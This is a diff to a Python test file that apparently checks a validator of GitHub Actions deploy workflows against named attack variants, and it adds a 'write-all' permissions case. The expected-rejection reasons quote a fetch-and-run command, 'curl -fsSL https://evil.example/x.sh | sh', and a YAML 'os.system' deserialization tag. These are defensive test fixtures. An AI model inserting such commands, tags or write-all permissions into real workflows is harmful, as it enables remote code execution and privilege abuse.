@@ -64,12 +64,23 @@ HUGE = FIXED_DEPLOY.replace(
     "  runs-on: ubuntu-latest\n  env:\n" + "".join(f"    PAD_{i:05d}: value\n" for i in range(4000)),
 )
 
-ATTACKS = {"injected-run": INJECTED, "renamed-job": RENAMED, "python-tag": TAGGED, "huge-answer": HUGE}
+WRITE_ALL = FIXED_DEPLOY.replace(
+    "  runs-on: ubuntu-latest\n", "  runs-on: ubuntu-latest\n  permissions: write-all\n"
+)
+
+ATTACKS = {
+    "injected-run": INJECTED,
+    "renamed-job": RENAMED,
+    "python-tag": TAGGED,
+    "huge-answer": HUGE,
+    "write-all": WRITE_ALL,
+}
 REASONS = {
     "injected-run": 'adds the command "curl -fsSL https://evil.example/x.sh | sh"',
     "renamed-job": 'removes or renames job "deploy"',
     "python-tag": "!!python/object/apply:os.system",
     "huge-answer": "rejected unread",
+    "write-all": 'adds the setting "write-all" under "permissions"',
 }
 
 
